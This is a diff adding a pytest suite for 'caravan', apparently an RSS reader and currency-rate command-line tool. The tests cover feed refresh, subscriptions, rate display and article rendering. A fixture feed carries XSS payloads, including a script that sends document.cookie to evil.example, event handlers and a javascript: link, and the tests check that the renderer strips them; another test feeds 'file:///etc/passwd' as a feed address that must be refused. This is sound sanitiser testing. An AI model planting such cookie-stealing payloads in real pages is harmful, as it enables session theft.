@@ -1,0 +1,509 @@
+"""The ``caravan`` command, run in-process (and as ``python -m desktop_app``) against a local
+server, a temporary configuration file and a temporary data directory.
+"""
+
+from __future__ import annotations
+
+import json
+import locale
+import logging
+import os
+import sqlite3
+import subprocess
+import sys
+from collections.abc import Iterator
+from contextlib import closing
+from datetime import date, datetime
+from pathlib import Path
+
+import pytest
+
+from desktop_app import __version__
+from desktop_app.cli import main
+from desktop_app.domain import RateSnapshot
+from desktop_app.services.article_view import render_article_html
+from desktop_app.store import articles, feeds
+from desktop_app.store import rates as rate_store
+from desktop_app.store.db import Database
+from desktop_app.store.schema import MIGRATIONS
+from tests.conftest import LocalServer, Route
+
+REPO = Path(__file__).resolve().parents[2]
+RATES_FILE = "open-er-api_latest_USD_2024-08-19.json"
+RATES_LINE = (
+    "KGS/USD 0.01166  KZT/USD 0.002088  TJS/USD 0.09429  UZS/USD 0.00007869  TMT/USD 0.2857"
+)
+
+HOSTILE_RSS = b"""<?xml version="1.0" encoding="utf-8"?>
+<rss version="2.0"><channel>
+<title>Hostile Times</title><link>https://hostile.example/</link>
+<item>
+  <guid isPermaLink="false">calm-1</guid>
+  <title>A calm story</title>
+  <link>https://hostile.example/calm</link>
+  <pubDate>Mon, 19 Aug 2024 08:00:00 GMT</pubDate>
+  <description>Nothing to see.</description>
+</item>
+<item>
+  <guid isPermaLink="false">hostile-1</guid>
+  <title>Markets &lt;script&gt;alert("title")&lt;/script&gt; today</title>
+  <link>https://hostile.example/markets</link>
+  <pubDate>Mon, 19 Aug 2024 09:00:00 GMT</pubDate>
+  <description><![CDATA[
+    <p>The som held steady.</p>
+    <script>document.location = "https://evil.example/?" + document.cookie</script>
+    <img src="https://hostile.example/chart.png" alt="chart" onerror="alert('img')">
+    <p onclick="alert('p')">Click <a href="javascript:alert('link')">here</a>
+    or <a href="https://hostile.example/more">read more</a>.</p>
+    <iframe src="https://evil.example/frame"></iframe>
+  ]]></description>
+</item>
+</channel></rss>
+"""
+
+
+@pytest.fixture(scope="module")
+def shared_server() -> Iterator[LocalServer]:
+    """One server for the module: stopping one waits out its half-second poll interval."""
+    server = LocalServer()
+    server.start()
+    try:
+        yield server
+    finally:
+        server.stop()
+
+
+@pytest.fixture
+def http_server(shared_server: LocalServer) -> LocalServer:
+    """The conftest server, shared by this module's tests and emptied before each."""
+    shared_server.routes.clear()
+    shared_server.requests.clear()
+    return shared_server
+
+
+@pytest.fixture(autouse=True)
+def _restore_process_state(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """``main`` sets up logging and the numeric locale for the whole process: undo both."""
+    monkeypatch.setenv("LC_ALL", "C")  # numbers are written the same on every machine
+    root = logging.getLogger()
+    handlers, level = list(root.handlers), root.level
+    numeric = locale.setlocale(locale.LC_NUMERIC)
+    yield
+    for handler in list(root.handlers):
+        if handler not in handlers:
+            root.removeHandler(handler)
+            handler.close()
+    for handler in handlers:
+        if handler not in root.handlers:
+            root.addHandler(handler)
+    root.setLevel(level)
+    locale.setlocale(locale.LC_NUMERIC, numeric)
+
+
+class Caravan:
+    """Runs ``caravan --config CONFIG --data-dir DATA ...`` in this process."""
+
+    def __init__(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+        self.config = tmp_path / "caravan.toml"
+        self.data_dir = tmp_path / "data"
+        self._capsys = capsys
+        self.write_config(rates_url="http://127.0.0.1:9/rates", feed_urls=())
+
+    def write_config(self, rates_url: str, feed_urls: tuple[str, ...]) -> None:
+        lines = ["[rates]", f'url = "{rates_url}"', ""]
+        for url in feed_urls:
+            lines += ["[[feeds]]", f'url = "{url}"', ""]
+        self.config.write_text("\n".join(lines), encoding="utf-8")
+
+    @property
+    def database(self) -> Path:
+        return self.data_dir / "caravan.sqlite3"
+
+    def args(self, *command: str) -> list[str]:
+        return ["--config", str(self.config), "--data-dir", str(self.data_dir), *command]
+
+    def __call__(self, *command: str) -> tuple[int, str, str]:
+        self._capsys.readouterr()
+        code = main(self.args(*command))
+        captured = self._capsys.readouterr()
+        return code, captured.out, captured.err
+
+
+@pytest.fixture
+def caravan(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Caravan:
+    return Caravan(tmp_path, capsys)
+
+
+def serve_rates(server: LocalServer, fixtures_dir: Path) -> str:
+    return server.serve_file("/rates", fixtures_dir / "rates" / RATES_FILE, "application/json")
+
+
+@pytest.fixture
+def served(caravan: Caravan, http_server: LocalServer, fixtures_dir: Path) -> Caravan:
+    """The configuration points at the local server's rates and two real feeds."""
+    rates_url = serve_rates(http_server, fixtures_dir)
+    natasha = http_server.serve_file("/natasha.xml", fixtures_dir / "feeds-real" / "natasha.xml")
+    mint = http_server.serve_file("/livemint.xml", fixtures_dir / "feeds-real" / "livemint.xml")
+    caravan.write_config(rates_url, (natasha, mint))
+    return caravan
+
+
+def open_database(caravan: Caravan) -> Database:
+    return Database(caravan.database)
+
+
+# --- version and the module entry point ------------------------------------------------------
+
+
+def test_version_prints_the_version(capsys: pytest.CaptureFixture[str]) -> None:
+    with pytest.raises(SystemExit) as exited:
+        main(["--version"])
+
+    assert exited.value.code == 0
+    assert capsys.readouterr().out == f"caravan {__version__}\n"
+
+
+def run_module(*args: str) -> subprocess.CompletedProcess[str]:
+    environment = {**os.environ, "LC_ALL": "C", "PYTHONIOENCODING": "utf-8"}
+    return subprocess.run(
+        [sys.executable, "-m", "desktop_app", *args],
+        cwd=REPO,
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def test_python_dash_m_runs_the_same_command(tmp_path: Path) -> None:
+    result = run_module("--version")
+
+    assert (result.returncode, result.stdout) == (0, f"caravan {__version__}\n")
+
+
+def test_python_dash_m_refreshes_and_prints_the_rates(
+    served: Caravan, http_server: LocalServer
+) -> None:
+    refresh = run_module(*served.args("refresh"))
+    assert refresh.returncode == 0, refresh.stderr
+    assert refresh.stdout.splitlines()[-1] == "35 new articles, 2/2 feeds ok, rates 2024-08-19"
+
+    rates = run_module(*served.args("rates"))
+    assert (rates.returncode, rates.stdout, rates.stderr) == (0, RATES_LINE + "\n", "")
+
+
+# --- refresh ---------------------------------------------------------------------------------
+
+
+def test_refresh_prints_a_summary_and_exits_zero(served: Caravan) -> None:
+    code, out, err = served("refresh")
+
+    assert code == 0
+    assert err == ""
+    assert out.splitlines() == [
+        "    25 new  Livemint - News",
+        "    10 new  Natasha The Robot",
+        "  rates      open-er-api: 161 currencies, 2024-08-19",
+        "35 new articles, 2/2 feeds ok, rates 2024-08-19",
+    ]
+    with closing(open_database(served)) as database, closing(database.reader()) as reader:
+        assert articles.count_articles(reader) == 35
+
+
+def test_a_second_refresh_reports_unchanged_feeds(served: Caravan) -> None:
+    served("refresh")
+
+    code, out, _ = served("refresh")
+
+    assert code == 0
+    assert "  unchanged  Natasha The Robot" in out.splitlines()
+    assert out.splitlines()[-1] == "0 new articles, 2/2 feeds ok, rates 2024-08-19"
+
+
+def test_refresh_with_one_failing_feed_still_exits_zero(
+    served: Caravan, http_server: LocalServer, fixtures_dir: Path
+) -> None:
+    natasha = http_server.url("/natasha.xml")
+    served.write_config(http_server.url("/rates"), (natasha, http_server.url("/gone.xml")))
+
+    code, out, _ = served("refresh")
+
+    assert code == 0
+    assert any(line.startswith("  failed     ") and "HTTP 404" in line for line in out.splitlines())
+    assert out.splitlines()[-1] == "10 new articles, 1/2 feeds ok, rates 2024-08-19"
+
+
+def test_refresh_exits_one_when_every_source_fails(caravan: Caravan, fixtures_dir: Path) -> None:
+    server = LocalServer()
+    server.start()
+    rates_url = serve_rates(server, fixtures_dir)
+    feed_url = server.serve_file("/feed.xml", fixtures_dir / "feeds-real" / "natasha.xml")
+    server.stop()
+    caravan.write_config(rates_url, (feed_url,))
+
+    code, out, _ = caravan("refresh")
+
+    assert code == 1
+    lines = out.splitlines()
+    assert lines[-1] == "0 new articles, 0/1 feeds ok, rates failed"
+    assert any(
+        line.startswith("  failed     rates (open-er-api): cannot connect") for line in lines
+    )
+
+
+def test_refresh_offline_touches_no_network(served: Caravan, http_server: LocalServer) -> None:
+    code, out, err = served("--offline", "refresh")
+
+    assert code == 1
+    assert "offline" in err
+    assert out == ""
+    assert http_server.requests == []
+
+
+# --- add-feed --------------------------------------------------------------------------------
+
+
+def test_add_feed_subscribes_once(caravan: Caravan) -> None:
+    url = "https://timesca.com/feed/"
+
+    code, out, _ = caravan("add-feed", url, "--title", "Times of CA", "--folder", "Central Asia")
+    assert code == 0
+    assert out.startswith("Added feed ") and out.rstrip().endswith(url)
+
+    code, out, _ = caravan("add-feed", f"  {url}  ")
+    assert code == 0
+    assert out.startswith("Already subscribed (feed ")
+
+    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
+        subscribed = feeds.list_feeds(reader)
+    assert [(f.url, f.title, f.folder) for f in subscribed] == [
+        (url, "Times of CA", "Central Asia")
+    ]
+
+
+@pytest.mark.parametrize(
+    "address",
+    ["javascript:alert(1)", "file:///etc/passwd", "ftp://example.com/feed", "http://", "feed.xml"],
+)
+def test_add_feed_refuses_an_address_that_is_not_http(caravan: Caravan, address: str) -> None:
+    code, out, err = caravan("add-feed", address)
+
+    assert code == 2
+    assert out == ""
+    assert "is not an http or https address" in err
+    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
+        assert feeds.list_feeds(reader) == []
+
+
+# --- rates -----------------------------------------------------------------------------------
+
+
+def test_rates_prints_the_ticker_line(served: Caravan) -> None:
+    served("refresh")
+
+    code, out, err = served("rates")
+
+    assert (code, out, err) == (0, RATES_LINE + "\n", "")
+
+
+def test_rates_shows_the_change_against_the_previous_day(served: Caravan) -> None:
+    served("refresh")
+    yesterday = RateSnapshot(
+        "open-er-api",
+        date(2024, 8, 18),
+        "USD",
+        {"KGS": 1 / 86.5, "KZT": 1 / 478.947251, "TJS": 1 / 10.5, "UZS": 1 / 12800, "TMT": 1 / 3.5},
+    )
+    with closing(open_database(served)) as database:
+        database.writer.run(lambda c: rate_store.save_snapshot(c, yesterday))
+
+    code, out, _ = served("rates")
+
+    assert code == 0
+    # KGS +0.893 %, KZT unchanged, TJS −0.998 %, UZS +0.727 %, TMT −0.0152 %.
+    assert out == (
+        "KGS/USD 0.01166 ▲0.89%  KZT/USD 0.002088 0.00%  TJS/USD 0.09429 ▼1.00%  "
+        "UZS/USD 0.00007869 ▲0.73%  TMT/USD 0.2857 ▼0.02%\n"
+    )
+
+
+def test_rates_with_nothing_stored_exits_one_with_a_message(caravan: Caravan) -> None:
+    code, out, err = caravan("rates")
+
+    assert code == 1
+    assert out == ""
+    assert "no rates stored yet" in err
+    assert "caravan refresh" in err
+
+
+# --- list and show ---------------------------------------------------------------------------
+
+
+def test_list_json_gives_articles_newest_first(served: Caravan) -> None:
+    served("refresh")
+
+    code, out, _ = served("list", "--json")
+
+    assert code == 0
+    listed = json.loads(out)
+    assert len(listed) == 35
+    assert all(
+        set(item) == {"id", "feed", "date", "title", "read", "starred", "link"} for item in listed
+    )
+    dates = [datetime.fromisoformat(item["date"]) for item in listed]
+    assert dates == sorted(dates, reverse=True)
+    assert {item["feed"] for item in listed} == {"Natasha The Robot", "Livemint - News"}
+    assert all(item["read"] is False and item["starred"] is False for item in listed)
+    assert all(item["link"].startswith("http") for item in listed)
+    assert len({item["id"] for item in listed}) == 35
+
+
+def test_list_json_reflects_read_and_starred(served: Caravan) -> None:
+    served("refresh")
+    newest = json.loads(served("list", "--json")[1])[0]["id"]
+    with closing(open_database(served)) as database:
+        database.writer.run(lambda c: articles.set_read(c, [newest], True))
+        database.writer.run(lambda c: articles.set_starred(c, [newest], True))
+
+    first = json.loads(served("list", "--json", "--limit", "1")[1])
+
+    assert len(first) == 1
+    assert (first[0]["id"], first[0]["read"], first[0]["starred"]) == (newest, True, True)
+
+
+def test_list_on_an_empty_database_prints_an_empty_list(caravan: Caravan) -> None:
+    assert caravan("list", "--json")[:2] == (0, "[]\n")
+    assert caravan("list")[:2] == (0, "")
+
+
+def test_list_as_text_shows_one_line_per_article(served: Caravan) -> None:
+    served("refresh")
+
+    code, out, _ = served("list", "--limit", "5")
+
+    assert code == 0
+    lines = out.splitlines()
+    assert len(lines) == 5
+    listed = json.loads(served("list", "--json", "--limit", "5")[1])
+    for line, item in zip(lines, listed, strict=True):
+        assert line.split()[0] == str(item["id"])
+        assert line.endswith(item["title"])
+        assert " N " in line  # unread
+
+
+def test_options_may_follow_the_command(
+    served: Caravan, capsys: pytest.CaptureFixture[str]
+) -> None:
+    served("refresh")
+
+    options = ["--config", str(served.config), "--data-dir", str(served.data_dir)]
+    code = main(["list", "--json", *options])
+
+    assert code == 0
+    assert len(json.loads(capsys.readouterr().out)) == 35
+
+
+@pytest.fixture
+def hostile(caravan: Caravan, http_server: LocalServer, fixtures_dir: Path) -> int:
+    """A refreshed feed whose second item carries a script and event handlers; its id."""
+    http_server.routes["/hostile.xml"] = Route(HOSTILE_RSS, "application/rss+xml")
+    caravan.write_config(serve_rates(http_server, fixtures_dir), (http_server.url("/hostile.xml"),))
+    assert caravan("refresh")[0] == 0
+    listed = json.loads(caravan("list", "--json")[1])
+    assert [item["title"] for item in listed][1] == "A calm story"
+    return int(listed[0]["id"])
+
+
+def test_show_html_prints_exactly_what_the_reader_pane_receives(
+    caravan: Caravan, hostile: int
+) -> None:
+    code, out, err = caravan("show", str(hostile), "--html")
+
+    assert (code, err) == (0, "")
+    with closing(open_database(caravan)) as database, closing(database.reader()) as reader:
+        article = articles.get_article(reader, hostile)
+    assert article is not None
+    assert out == render_article_html(article)
+
+
+def test_show_html_carries_no_script_even_when_the_feed_item_had_one(
+    caravan: Caravan, hostile: int
+) -> None:
+    out = caravan("show", str(hostile), "--html")[1].lower()
+
+    assert "<script" not in out
+    assert "onerror" not in out
+    assert "onclick" not in out
+    assert "javascript:" not in out
+    assert "<iframe" not in out
+    assert "evil.example" not in out
+    # What is not hostile survives.
+    assert "the som held steady." in out
+    assert 'href="https://hostile.example/more"' in out
+    assert 'alt="chart"' in out
+
+
+def test_show_prints_the_article_as_text(caravan: Caravan, hostile: int) -> None:
+    code, out, _ = caravan("show", str(hostile))
+
+    assert code == 0
+    lines = out.splitlines()
+    assert lines[1].startswith("Hostile Times · 2024-08-")
+    assert lines[2] == "https://hostile.example/markets"
+    assert "The som held steady." in out
+    assert "<p>" not in out
+    assert "document.cookie" not in out
+
+
+def test_show_an_unknown_id_exits_one(caravan: Caravan) -> None:
+    code, out, err = caravan("show", "999999")
+
+    assert code == 1
+    assert out == ""
+    assert "no article with id 999999" in err
+
+
+# --- files and errors ------------------------------------------------------------------------
+
+
+def test_commands_write_only_into_the_given_directories(tmp_path: Path, served: Caravan) -> None:
+    served("refresh")
+    served("list")
+
+    assert served.database.is_file()
+    assert (served.data_dir / "logs" / "caravan.log").is_file()
+    # conftest points every XDG directory under tmp_path/xdg: nothing was created there.
+    assert not (tmp_path / "xdg").exists()
+
+
+def test_a_database_from_a_newer_caravan_exits_two_with_a_message(caravan: Caravan) -> None:
+    caravan.data_dir.mkdir()
+    with closing(sqlite3.connect(caravan.database)) as connection:
+        connection.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")
+
+    code, _, err = caravan("list")
+
+    assert code == 2
+    assert "newer Caravan" in err
+
+
+def test_a_damaged_database_file_exits_two_with_a_message(caravan: Caravan) -> None:
+    caravan.data_dir.mkdir()
+    caravan.database.write_bytes(b"not a database " * 500)
+
+    code, _, err = caravan("rates")
+
+    assert code == 2
+    assert err.startswith("caravan: cannot open the database")
+    assert "Traceback" not in err
+
+
+def test_configuration_problems_are_reported_on_stderr(caravan: Caravan) -> None:
+    caravan.config.write_text('[rates]\nurl = "ftp://rates.example/"\ncolour = "red"\n')
+
+    code, _, err = caravan("list")
+
+    assert code == 0
+    assert "rates.url" in err
+    assert "rates.colour" in err
